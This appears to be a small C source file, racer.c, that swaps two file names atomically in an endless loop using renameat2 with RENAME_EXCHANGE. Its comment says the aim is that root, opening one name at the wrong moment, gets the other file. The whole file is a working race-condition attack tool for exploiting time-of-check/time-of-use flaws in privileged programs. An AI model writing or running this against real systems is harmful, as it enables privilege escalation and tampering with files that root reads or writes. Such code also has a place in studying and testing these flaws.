/* racer.c - as the user who owns a directory: exchange two names in it as fast as can be, until killed. Root, who is asked by name for
 * one of them at the wrong moment, finds the other. Arguments: path, path, and so on in pairs. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	for (;;)
		for (int i = 1; i + 1 < argc; i += 2)
			if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) != 0 && getppid() == 1)
				return 0; /* whoever started us is gone */
}
